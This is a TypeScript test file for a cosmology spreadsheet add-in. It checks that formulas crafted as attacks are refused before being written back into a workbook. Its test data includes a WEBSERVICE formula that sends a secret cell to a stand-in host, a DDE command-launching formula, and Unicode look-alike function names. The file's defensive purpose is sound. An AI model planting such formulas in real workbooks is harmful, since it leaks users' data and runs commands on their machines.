/**
 * A shared workbook is a stranger's input. Everything it stores — notes, comments, formulas, our
 * settings — is crafted here as an attacker would, and each path that reads it is checked: what the
 * pane may write back (`restorableFormula`), the provenance notes, the stored models and their caps,
 * the repair scan's bounds, degenerate models that once gave invented answers, the inspector on a long
 * formula. The memory of one formula with thousands of distinct models: test/bundleMemory.test.ts; the
 * pane itself in chromium: test/browser/hostileWorkbook.test.ts.
 */
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parseModelSpec } from "../core/index.js";
import { readActiveModel } from "../functions/activeModel.js";
import { CellError } from "../functions/cellError.js";
import { definitions } from "../functions/definitions.js";
import { evaluate } from "../functions/evaluate.js";
import { cachedModelCount } from "../functions/modelCache.js";
import { maxSpecLength, maxWorkbookModels, readWorkbookModels } from "../functions/workbookModels.js";
import { explainFormula } from "../taskpane/explainCall.js";
import { findUnboundFormulas, scanCellLimit, scanChunkCells } from "../taskpane/workbookScan.js";
import { tokenize } from "../taskpane/formulaCalls.js";
import { parseProvenanceNote, provenanceNote } from "../taskpane/provenanceNote.js";
import { restorableFormula } from "../taskpane/restorableFormula.js";

const root = fileURLToPath(new URL("..", import.meta.url));
const fakeSource = readFileSync(`${root}test/browser/fakeOffice.js`, "utf8");
const g = globalThis as unknown as { window: { __fakeInit?: unknown; __fake: { reads: number[] } } };
function install(init: object) {
  g.window = globalThis as never;
  g.window.__fakeInit = init;
  new Function(fakeSource)();
  return g.window.__fake;
}

describe("what the pane may write back into a workbook", () => {
  // formula as a note, comment or #NAME? cell may hold it | the reason given (a fragment) — the attacks of the review
  const refused: [formula: string, reason: RegExp][] = [
    ['=WEBSERVICE("https://example.invalid/?d="&ENCODEURL(Secrets!A1))', /WEBSERVICE, which is not a zcell function/],
    ["=cmd|' /C calc'!A0", /DDE link/],
    ['=HYPERLINK("https://example.invalid","open")', /HYPERLINK/],
    ["=SEQUENCE(1000,1000)", /SEQUENCE/],
    ['=IF(ISERROR(_xldudf_ZC_VERSION()),_xldudf_ZC_VERSION(),WEBSERVICE("x"&Secrets!A1))', /IF, which is not a zcell function/],
    ["=ZC.DIST_LUM([Book1]Sheet1!A1)", /another workbook/],
    ["=ZC.DIST_LUM('C:\\data\\[Other.xlsx]Sheet1'!A1)", /another workbook/],
    ["=ZC.DIST_LUM(Table1[z])", /another workbook or a table/],
    ["=ZC.DIST_LUM(Hidden)", /uses the name Hidden/],
    ["=ZC.DIST_LUM(A1#)", /spill reference/],
    ["=@ZC.DIST_LUM(A1)", /"@"/],
    ['=ZC.DIST_LUM("unterminated)', /cannot read it/],
    ["=ZC.DIST_LUM(A1))", /parentheses/],
    ["=ZC.NOT_OURS(1)", /ZC.NOT_OURS is not a zcell function/],
    ["=1+2", /calls no zcell function/],
    ["plain text", /not a formula/],
    [`=ZC.DIST_LUM(${"1+".repeat(5000)}1)`, /longer than Excel allows/],
  ];
  test.each(refused)("refuses %s", (formula, reason) => {
    for (const singleCell of [true, false]) {
      const verdict = restorableFormula(formula, { singleCell });
      expect(verdict.ok).toBe(false);
      if (!verdict.ok) expect(verdict.reason).toMatch(reason);
    }
  });

  // Second pass of the review: text that only becomes ours after a case change, names shaped like
  // cells beyond the sheet, sheet parts that are paths, array constants that hold more than constants.
  // formula | the reason given (a fragment) — each was accepted before and written as it stood
  const lookAlikes: [string, RegExp][] = [
    ["=ZC.DIſT_LUM(A1)", /ZC\.DIſT_LUM, whose name is not plain ASCII/], // long s (U+017F) upper-cases to S
    ["=zc.dıst_lum(A1)", /zc\.dıst_lum, whose name is not plain ASCII/], // Turkish dotless i (U+0131) upper-cases to I
    ["=ZC.KCORRECTıON(A1, -0.5)", /not plain ASCII/],
    ["=ZC.ﬂUX(1, A1)", /ZC\.ﬂUX, whose name is not plain ASCII/], // the ligature ﬂ (U+FB02) upper-cases to FL
    ["=ZC.DIﬆ_LUM(A1)", /not plain ASCII/], // the ligature ﬆ (U+FB06) upper-cases to ST
    ["=_xldudf_ZC_DIſT_LUM(A1)", /_xldudf_ZC_DIſT_LUM, whose name is not plain ASCII/],
    ["=ZC.DIST_LUM(#ſPILL!)", /spill reference|uses the name/], // an error literal only after upper-casing
  ];
  const beyondTheSheet: [string, RegExp][] = [
    ["=ZC.DIST_LUM(ZZZ1)", /ZZZ1, which lies outside Excel's sheet/],
    ["=ZC.DIST_LUM(XFE1)", /XFE1, which lies outside Excel's sheet/],
    ["=ZC.DIST_LUM(A1048577)", /A1048577, which lies outside/],
    ["=ZC.DIST_LUM(A99999999)", /A99999999, which lies outside/],
    ["=ZC.DIST_LUM($XFE$1)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(A0)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(A01)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(Sheet1!XFE1)", /Sheet1!XFE1, which lies outside/],
    ["=ZC.DIST_LUM('My data'!A1048577)", /'My data'!A1048577, which lies outside/],
    ["=ZC.DIST_LUM(A1:XFE2)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(A:XFE)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(1:1048577)", /outside Excel's sheet/],
    ["=ZC.DIST_LUM(0:3)", /outside Excel's sheet/],
  ];
  const pathLike: [string, RegExp][] = [
    ["=ZC.DIST_LUM('C:\\data\\catalogue'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('D:'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('\\\\server\\share\\book.xlsx'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('https://example.invalid/book.xlsx'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('file:///tmp/x'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('a/b'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('what?'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('all*'!A1)", /another workbook or a file/],
    ["=ZC.DIST_LUM('Sheet1:Sheet3'!A1)", /another workbook or a file/],
  ];
  const arrays: [string, RegExp][] = [
    ['=ZC.DIST_LUM({1,WEBSERVICE("https://example.invalid")})', /array constant zcell cannot check/],
    ["=ZC.DIST_LUM({Hidden})", /array constant zcell cannot check/],
    ["=ZC.DIST_LUM({A1})", /array constant zcell cannot check/],
  ];
  test.each([...lookAlikes, ...beyondTheSheet, ...pathLike, ...arrays])("refuses %s (second pass)", (formula, reason) => {
    for (const singleCell of [true, false]) {
      const verdict = restorableFormula(formula, { singleCell });
      expect(verdict.ok).toBe(false);
      if (!verdict.ok) expect(verdict.reason).toMatch(reason);
    }
  });

  test("with the workbook's sheets at hand, a reference to any other sheet is refused; the sheets it has are accepted", () => {
    const sheets = ["Sheet1", "My data", "It's", "Données"];
    const verdict = (formula: string) => restorableFormula(formula, { singleCell: false, sheets });
    expect(verdict("=ZC.DIST_LUM(Other!A1)")).toEqual({ ok: false, reason: "it refers to a sheet this workbook does not have (Other)" });
    expect(verdict("=ZC.DIST_LUM('My Data'!A1)")).toEqual({ ok: false, reason: "it refers to a sheet this workbook does not have (My Data)" });
    expect(verdict("=ZC.DIST_LUM(Book2.xlsx!A1)")).toEqual({ ok: false, reason: "it refers to a sheet this workbook does not have (Book2.xlsx)" });
    for (const formula of ["=ZC.DIST_LUM(Sheet1!A1)", "=ZC.DIST_LUM('My data'!B7)", "=ZC.DIST_LUM('It''s'!$B$2:B9)", "=ZC.DIST_LUM(Données!A1)", "=ZC.DIST_LUM(A1)"]) {
      expect(verdict(formula)).toEqual({ ok: true, formula });
    }
  });

  // honest formulas that must still pass, whatever the pane knows of the sheets
  const honest = [
    "=ZC.DIST_LUM('My data'!B7)",
    "=ZC.DIST_LUM(XFD1048576)",
    "=ZC.DIST_LUM($XFD$1048576)",
    "=ZC.DIST_LUM(Sheet1!A1:XFD1048576)",
    "=ZC.DIST_LUM(A:XFD)",
    "=ZC.DIST_LUM(1:1048576)",
    "=ZC.DIST_LUM($A$2:$A$40, B$1)",
    "=ZC.DIST_LUM({0.1,-2.5e-3;\"a\"\"b\",TRUE})",
    "=ZC.DIST_LUM(#N/A)",
  ];
  test.each(honest)("still re-enters %s", (formula) => {
    expect(restorableFormula(formula, { singleCell: false, sheets: ["Sheet1", "My data"] })).toEqual({ ok: true, formula });
  });

  test("a ZC name typed in lower case is written with our exact name", () => {
    expect(restorableFormula("=zc.dist_lum(a2)*2", { singleCell: true })).toEqual({ ok: true, formula: "=ZC.DIST_LUM(a2)*2" });
  });

  // formula | restored for Thaw (one cell) | re-entered by the repair banner | written as
  const allowed: [string, boolean, boolean, string][] = [
    ['=ZC.DIST_LUM(A2, "P18-BAO; H0=73")', true, true, '=ZC.DIST_LUM(A2, "P18-BAO; H0=73")'],
    ["=_xldudf_ZC_DIST_LUM(B3)*2+1", true, true, "=ZC.DIST_LUM(B3)*2+1"],
    ["=ZC.DIST_LUM('My sheet'!$B$3)/1000", true, true, "=ZC.DIST_LUM('My sheet'!$B$3)/1000"],
    ["=ZC.MAG_ABS(22, A2, ZC.KCORRECTION(A2, -0.5))", true, true, "=ZC.MAG_ABS(22, A2, ZC.KCORRECTION(A2, -0.5))"],
    ['=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")', true, true, '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")'],
    ['=ZC.DIST_LUM(1,"WEBSERVICE(x)")', true, true, '=ZC.DIST_LUM(1,"WEBSERVICE(x)")'],
    ["=ZC.DIST_LUM(A2:A9)", false, true, "=ZC.DIST_LUM(A2:A9)"],
    ["=ZC.DIST_LUM(A:A)", false, true, "=ZC.DIST_LUM(A:A)"],
    ["=ZC.DIST_LUM({0.1,0.2})", false, true, "=ZC.DIST_LUM({0.1,0.2})"],
    ["=ZC.PRESETS()", false, true, "=ZC.PRESETS()"],
  ];
  test.each(allowed)("%s: Thaw %s, repair %s", (formula, thaw, repair, written) => {
    const one = restorableFormula(formula, { singleCell: true });
    const any = restorableFormula(formula, { singleCell: false });
    expect(one.ok).toBe(thaw);
    if (!one.ok) expect(one.reason).toMatch(/could spill over other cells/);
    expect(any).toEqual(repair ? { ok: true, formula: written } : expect.objectContaining({ ok: false }));
  });
});

describe("whatever a stranger writes, what the pane writes back holds only our calls and cells of this workbook", () => {
  // Formulas built from honest pieces and hostile ones alike: our names in any case, look-alike letters,
  // other functions, cells inside and beyond the sheet, sheets this workbook has, paths, names, array
  // constants, any operator. The check of what comes out is written here on its own (not the allow-list's code).
  const ours = Object.keys(definitions);
  const lastColumn = 16_384; // XFD; rows up to 1,048,576 (Microsoft, "Excel specifications and limits")
  const lastRow = 1_048_576;
  const letters = (n: number) => {
    let s = "";
    for (let k = n; k > 0; k = Math.floor((k - 1) / 26)) s = String.fromCharCode(65 + ((k - 1) % 26)) + s;
    return s;
  };
  const number = (col: string) => [...col.toUpperCase()].reduce((n, c) => n * 26 + c.charCodeAt(0) - 64, 0);
  const sheets = ["Sheet1", "My data", "It's", "Données"];

  const lookAlike = (name: string) => name.replace("I", "ı").replace("S", "ſ").replace("FL", "ﬂ").replace("ST", "ﬆ");
  const caseOf = (text: string, lower: boolean) => (lower ? text.toLowerCase() : text);
  const functionName = fc.oneof(
    fc.tuple(fc.constantFrom(...ours), fc.boolean()).map(([n, lower]) => caseOf(`ZC.${n}`, lower)),
    fc.constantFrom(...ours).map((n) => `_xldudf_ZC_${n}`),
    fc.constantFrom(...ours).map((n) => `ZC.${lookAlike(n)}`),
    fc.constantFrom("WEBSERVICE", "IF", "HYPERLINK", "LAMBDA", "ZC.NOT_OURS", "SUM", "ZC.__proto__", "_xlfn.ZC.AGE"),
  );
  const column = fc.oneof(fc.integer({ min: 1, max: lastColumn }).map(letters), fc.integer({ min: lastColumn + 1, max: 18_278 }).map(letters), fc.stringMatching(/^[A-Za-zı]{1,4}$/));
  const row = fc.oneof(fc.integer({ min: 1, max: lastRow }).map(String), fc.integer({ min: lastRow + 1, max: 2e9 }).map(String), fc.constantFrom("0", "01", "1048576", "1048577"));
  const dollar = fc.constantFrom("", "$");
  const cell = fc.tuple(dollar, column, dollar, row).map((p) => p.join(""));
  const area = fc.oneof(
    cell,
    fc.tuple(cell, cell).map(([a, b]) => `${a}:${b}`),
    fc.tuple(dollar, column, dollar, column).map(([d1, a, d2, b]) => `${d1}${a}:${d2}${b}`),
    fc.tuple(dollar, row, dollar, row).map(([d1, a, d2, b]) => `${d1}${a}:${d2}${b}`),
  );
  const sheetName = fc.constantFrom(...sheets, "Other", "C:\\data", "\\\\server\\share\\b.xlsx", "https://example.invalid/b.xlsx", "a/b", "Book2.xlsx", "[Book1]Sheet1", "Sheet1:Sheet3", "ı");
  const sheetPart = fc.oneof(
    fc.constant(""),
    sheetName.map((n) => `'${n.replaceAll("'", "''")}'!`),
    sheetName.filter((n) => /^[A-Za-z_][\w.]*$/.test(n)).map((n) => `${n}!`),
  );
  const reference = fc.tuple(sheetPart, area).map(([s, a]) => s + a);
  const literal = fc.oneof(
    fc.double({ min: -1e6, max: 1e6, noNaN: true }).map((x) => String(Math.abs(x))),
    fc.string({ maxLength: 12 }).map((t) => `"${t.replaceAll('"', '""')}"`),
    fc.constantFrom("TRUE", "false", "#N/A", "#REF!", "#ſPILL!", "#", "{1,2;3,4}", '{"a",TRUE}', "{Hidden}", '{1,IF("x")}', "Hidden", "Table1[z]", "A1#"),
    fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.]{0,6}$/),
  );
  const operator = fc.constantFrom("+", "-", "*", "/", "^", "&", "=", "<>", "<=", ">=", "<", ">", "%", " ", "|", ":", "@", "!", "#", " ");
  const { expression } = fc.letrec<{ expression: string; call: string; leaf: string }>((tie) => ({
    expression: fc.oneof(
      { depthSize: "small", maxDepth: 4 },
      tie("leaf"),
      tie("call"),
      fc.tuple(tie("expression"), operator, tie("expression")).map((p) => p.join("")),
      tie("expression").map((e) => `(${e})`),
    ),
    call: fc.tuple(functionName, fc.array(tie("expression"), { maxLength: 3 }), fc.constantFrom(",", ";", ", ")).map(([name, args, sep]) => `${name}(${args.join(sep)})`),
    leaf: fc.oneof(reference, literal),
  }));

  /** Why a written token is not one of ours, or undefined: checked without the allow-list's code. */
  function foreign(kind: string, text: string, knownSheets: readonly string[] | undefined): string | undefined {
    if (kind === "func") return ours.some((n) => text === `ZC.${n}`) ? undefined : "a function not spelled as ours";
    if (kind === "name") return "a name";
    if (kind === "op" && ["|", ":", "@", "!", "[", "]"].includes(text)) return `the operator ${text}`;
    if (kind === "error" && text === "#") return "a spill reference";
    if (kind !== "ref") return undefined;
    const m = /^(?:(?:'((?:[^']|'')+)'|([^'!]+))!)?(.*)$/.exec(text)!;
    const sheet = m[1]?.replaceAll("''", "'") ?? m[2];
    if (sheet !== undefined && (/[\\/?*[\]:]/.test(sheet) || (knownSheets && !knownSheets.includes(sheet)))) return `the sheet ${sheet}`;
    for (const part of m[3].replaceAll("$", "").split(":")) {
      const p = /^([A-Za-z]*)(\d*)$/.exec(part);
      if (!p || (!p[1] && !p[2])) return `the reference ${text}`;
      if (p[1] && number(p[1]) > lastColumn) return `the column ${p[1]}`;
      if (p[2] && (p[2].startsWith("0") || Number(p[2]) > lastRow)) return `the row ${p[2]}`;
    }
    return undefined;
  }

  test("every formula the allow-list accepts, tokenized again, holds only ZC calls of our exact names and references inside the sheet", () => {
    let accepted = 0;
    fc.assert(
      fc.property(expression, fc.boolean(), fc.boolean(), (body, singleCell, withSheets) => {
        const knownSheets = withSheets ? sheets : undefined;
        const verdict = restorableFormula(`=${body}`, { singleCell, sheets: knownSheets });
        if (!verdict.ok) return;
        accepted++;
        for (const t of tokenize(verdict.formula)) expect(foreign(t.kind, t.text, knownSheets), `${t.text} in ${verdict.formula}`).toBeUndefined();
        // what is written is accepted again as it stands
        expect(restorableFormula(verdict.formula, { singleCell, sheets: knownSheets })).toEqual(verdict);
      }),
      { numRuns: 3000 },
    );
    // the generator must reach accepted formulas, or the property says nothing (about 190 of 3,000 here)
    expect(accepted).toBeGreaterThan(100);
  });

  test("an honest formula (our calls, cells inside the sheet, sheets the workbook has, constants) is always accepted as it stands", () => {
    const honestCell = fc.tuple(dollar, fc.integer({ min: 1, max: lastColumn }).map(letters), dollar, fc.integer({ min: 1, max: lastRow })).map((p) => p.join(""));
    const honestSheet = fc.oneof(fc.constant(""), fc.constantFrom(...sheets).map((n) => `'${n.replaceAll("'", "''")}'!`), fc.constantFrom("Sheet1!", "Données!"));
    const honestReference = fc.tuple(honestSheet, honestCell, fc.option(honestCell)).map(([s, a, b]) => `${s}${a}${b ? `:${b}` : ""}`);
    const honestLiteral = fc.oneof(fc.integer({ min: 0, max: 1e6 }).map(String), fc.string({ maxLength: 8 }).map((t) => `"${t.replaceAll('"', '""')}"`), fc.constantFrom("TRUE", "#N/A", "{0.1,0.2;0.3,0.4}"));
    const { honest } = fc.letrec<{ honest: string }>((tie) => ({
      honest: fc.oneof(
        { depthSize: "small", maxDepth: 3 },
        honestReference,
        honestLiteral,
        fc.tuple(fc.constantFrom(...ours), fc.array(tie("honest"), { maxLength: 3 })).map(([n, args]) => `ZC.${n}(${args.join(", ")})`),
        fc.tuple(tie("honest"), fc.constantFrom("+", "-", "*", "/", "^", "&", "<>"), tie("honest")).map((p) => p.join(" ")),
      ),
    }));
    fc.assert(
      fc.property(fc.constantFrom(...ours), honest, (name, inner) => {
        const formula = `=ZC.${name}(${inner})`;
        expect(restorableFormula(formula, { singleCell: false, sheets })).toEqual({ ok: true, formula });
      }),
      { numRuns: 1000 },
    );
  });
});

describe("provenance notes", () => {
  test("a formula of several lines survives freeze and thaw whole", () => {
    const formula = '=ZC.DIST_LUM(A2,\n "P18-BAO; H0=73")';
    const note = provenanceNote(formula, ["P18-BAO; H0=73"], "0.1.0", "2026-12-02");
    expect(parseProvenanceNote(note)).toEqual({ formula, models: ["P18-BAO; H0=73"] });
  });

  test("notes written by the earlier version (formula as it was) are still read, several lines too", () => {
    const earlier = ["Frozen by zcell 0.1.0 on 2026-12-01.", "Formula: =ZC.DIST_LUM(A2,", ' "W9-ALL")', "Model: W9-ALL", "Value computed under that cosmology; recompute with the add-in if the model changes."].join("\n");
    expect(parseProvenanceNote(earlier)).toEqual({ formula: '=ZC.DIST_LUM(A2,\n "W9-ALL")', models: ["W9-ALL"] });
  });

  test("a person's note, a broken JSON formula or an oversized note is not ours", () => {
    expect(parseProvenanceNote("Check this value\nFormula: =ZC.AGE()\nModel: W9-ALL")).toBeUndefined();
    expect(parseProvenanceNote('Frozen by zcell 0.2 on x.\nFormula: "=ZC.AGE(\nModel: W9-ALL')).toBeUndefined();
    expect(parseProvenanceNote(`Frozen by zcell 0.2 on x.\nFormula: "=ZC.AGE()"\nModel: ${"x".repeat(70_000)}`)).toBeUndefined();
  });
});

describe("stored settings: whatever they hold, a bounded reading and a plain warning", () => {
  const settingsOf = (active: unknown, models?: unknown) => install({ settings: { "zcell.activeModel": active, ...(models === undefined ? {} : { "zcell.workbookModels": models }) } });

  // stored active model | warning (fragment) — the functions and the pane then use the default, P18-CMB
  const unusable: [unknown, RegExp][] = [
    ["H0=70; Om=0; OL=2", /no big bang/],
    [42, /not text/],
    [{ spec: "W9-ALL" }, /not text/],
    ["P18-BAO; Om=x", /"x" is not a number/],
    ["x".repeat(maxSpecLength + 1), /longer than 500 characters/],
    ["NO-SUCH-MODEL", /unknown preset/],
  ];
  test.each(unusable)("active model %j falls back to the default model (P18-CMB) with a warning", (stored, warning) => {
    settingsOf(stored);
    const active = readActiveModel();
    expect(active).toMatchObject({ spec: "P18-CMB", stored: false });
    expect(active.warning).toMatch(warning);
    expect(active.warning!.length).toBeLessThan(400);
  });

  test(`at most ${maxWorkbookModels} workbook models are read; the rest are counted, and no message lists them all`, () => {
    const stored: Record<string, string> = {};
    for (let i = 0; i < 30_000; i++) stored[`M${i}`] = `P18-BAO; H0=${60 + i / 1000}`;
    stored["bad name!"] = "W9-ALL";
    const models = readWorkbookModels(stored);
    expect(models.specs.size).toBe(maxWorkbookModels);
    expect(models.problems.join(" ")).toMatch(`only the first ${maxWorkbookModels} workbook models are read; 29901 more are left out`);
    let message = "";
    try {
      parseModelSpec("UNKNOWN", models.named);
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toMatch(/unknown preset "UNKNOWN": use one of .* … and \d+ more$/);
    expect(message.length).toBeLessThan(300);
  });

  test(`the first ${maxWorkbookModels} stored entries are read, usable or not: 5,000 valid names with specs that do not parse cost ${maxWorkbookModels} readings`, () => {
    const entries: Record<string, string> = {};
    for (let i = 0; i < 5_000; i++) entries[`M${i}`] = `H0=${"1".repeat(480)}x; Om=0.3`;
    let specsRead = 0;
    const stored = new Proxy(entries, {
      get: (target, key, receiver) => {
        if (typeof key === "string") specsRead++;
        return Reflect.get(target, key, receiver);
      },
    });
    const models = readWorkbookModels(stored);
    expect(specsRead).toBe(maxWorkbookModels); // was 5,000: only usable entries counted toward the cap
    expect(models.specs.size).toBe(0);
    expect(models.problems.at(-1)).toBe(`only the first ${maxWorkbookModels} workbook models are read; 4900 more are left out`);
  });

  test("two models whose names differ only in case: the one stored last is read, and the pane is told", () => {
    const models = readWorkbookModels({ Team: "W9-ALL", OTHER: "P18-CMB; H0=70", TEAM: "P18-BAO; H0=73" });
    expect([...models.specs]).toEqual([["TEAM", "P18-BAO; H0=73"], ["OTHER", "P18-CMB; H0=70"]]);
    expect(models.problems).toEqual(["workbook models Team and TEAM differ only in case, and model names are read without regard to case; zcell reads the one stored last, TEAM"]);
  });

  test("entries with long names, long specs, wrong types or bad specs are left out with at most five sentences", () => {
    const models = readWorkbookModels({
      ["L".repeat(5000)]: "W9-ALL",
      LONGSPEC: `W9-ALL; ${"H0=70; ".repeat(200)}`,
      NUMBER: 3,
      BROKEN: "H0=abc",
      OK: "W9-ALL; H0=70",
      A1: 1, A2: 2, A3: 3,
    });
    expect([...models.specs.keys()]).toEqual(["OK"]);
    expect(models.problems.length).toBe(6);
    expect(models.problems[5]).toBe("… and 2 more workbook models that could not be read");
    expect(models.problems.join(" ").length).toBeLessThan(1000);
  });
});

describe("degenerate models give no invented answers", () => {
  const active = { spec: "P18-BAO", stored: false };
  const cell = (name: string, ...args: unknown[]) => evaluate(definitions[name], args, active)[0][0];
  const nearlyDeSitter = "H0=70; Om=0; OL=1; w0=-0.9999999";

  test("the redshift of an age in a model whose age integral does not converge is #N/A with the reason", () => {
    const c = cell("REDSHIFT", 1, "AGE", nearlyDeSitter);
    expect(c).toBeInstanceOf(CellError);
    expect((c as CellError).kind).toBe("na");
    expect((c as CellError).message).toMatch(/age of this model is not finite to numerical precision/);
  });

  test("a distance modulus too large for any finite distance is #N/A, not z = 1e154", () => {
    const c = cell("REDSHIFT", 1e6, "MODULUS", nearlyDeSitter);
    expect(c).toBeInstanceOf(CellError);
    expect((c as CellError).kind).toBe("na");
  });

  test("the age itself is #NUM!, never a number", () => {
    expect(cell("AGE", 0, nearlyDeSitter)).toBeInstanceOf(CellError);
  });
});

describe("the repair scan is bounded", () => {
  test("a sheet with values in A1 and XFD1048576 is scanned up to the cell limit, and the pane is told where it stopped", async () => {
    const fake = install({
      settings: {},
      sheets: {
        Sparse: { A1: { formula: "=ZC.AGE()", value: "#NAME?" }, XFD1048576: { value: "far away" } },
        Small: { B2: { formula: "=ZC.DIST_LUM(1)", value: "#NAME?" } },
      },
    });
    const scan = await findUnboundFormulas();
    expect(scan.formulas.map((f) => `${f.sheet}!${f.address}`)).toEqual(["Sparse!A1", "Small!B2"]);
    const cellsRead = fake.reads.reduce((a, b) => a + b, 0);
    expect(cellsRead).toBeLessThanOrEqual(scanCellLimit + 1);
    expect(Math.max(...fake.reads)).toBeLessThanOrEqual(scanChunkCells);
    expect(scan.gaps).toEqual([{ sheet: "Sparse", what: "scanned rows 1–64 of A1:XFD1048576 only (the first 1,048,576 cells)" }]);
  });

  test("a scan stopped by the person reports the sheets it did not look at", async () => {
    install({ settings: {}, sheets: { One: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } }, Two: { A1: { formula: "=ZC.AGE()", value: "#NAME?" } } } });
    const control = { cancelled: true };
    const scan = await findUnboundFormulas(control);
    expect(scan.formulas).toEqual([]);
    expect(scan.gaps).toEqual([
      { sheet: "One", what: "not scanned (stopped)" },
      { sheet: "Two", what: "not scanned (stopped)" },
    ]);
  });
});

describe("the inspector on a long formula", () => {
  test("154 calls with one model build it at most once and read each reference once", async () => {
    const formula = "=" + Array.from({ length: 154 }, (_, i) => `ZC.DIST_LUM(A${1 + (i % 2)},"P18-BAO; H0=70.25")`).join("+");
    expect(formula.length).toBeGreaterThan(5000);
    const before = cachedModelCount();
    const reads: string[] = [];
    const t0 = performance.now();
    const calls = await explainFormula(formula, async (reference) => (reads.push(reference), { cells: 1, values: [[0.5]] }), { spec: "P18-BAO", stored: false });
    const ms = performance.now() - t0;
    console.log(`inspector: ${calls.length} calls explained in ${ms.toFixed(0)} ms`);
    expect(calls.length).toBe(154);
    expect(calls[0].result).toMatch(/^2\d{3}\.\d+ Mpc$/);
    expect(cachedModelCount() - before).toBeLessThanOrEqual(1);
    expect(reads.sort()).toEqual(["A1", "A2"]);
  });
});

describe("a column of errors costs one error value per distinct message, not one a cell", () => {
  const active = { spec: "P18-CMB", stored: false };
  const column = (n: number, f: (i: number) => unknown) => Array.from({ length: n }, (_, i) => [f(i)]);
  const distinctErrors = (cells: unknown[][]) => new Set(cells.flat().filter((c) => c instanceof CellError)).size;
  const n = 20_000;
  // function      the column holds                 arguments (the column first)                                   distinct messages
  test.each([
    ["DIST_LUM",   "text",                           [column(n, () => "abc")],                                      1],
    ["DIST_LUM",   "two texts",                      [column(n, (i) => (i % 2 ? "abc" : "def"))],                   2],
    ["DIST_LUM",   "a blueshift",                    [column(n, () => -2)],                                         1],
    ["SIGMA_CRIT", "text",                           [column(n, () => "abc"), column(n, () => "abc")],              1],
    ["EXTINCTION", "text",                           [column(n, () => "abc"), 0.1],                                 1],
    ["COORD_DEG",  "text that is no angle",          [column(n, () => "abc"), "ra"],                                1],
    ["MAG_AB",     "zero flux densities",            [column(n, () => 0)],                                          1],
  ] as const)("%s over 20,000 rows of %s: every cell shows the error, one object for each distinct message", (name, _what, args, messages) => {
    const cells = evaluate(definitions[name], args as readonly unknown[], active);
    expect(cells.length).toBe(n);
    expect(cells.every(([c]) => c instanceof CellError)).toBe(true);
    expect(new Set(cells.map(([c]) => (c as CellError).message)).size).toBe(messages);
    expect(distinctErrors(cells)).toBe(messages); // was one a cell: n
  });
});
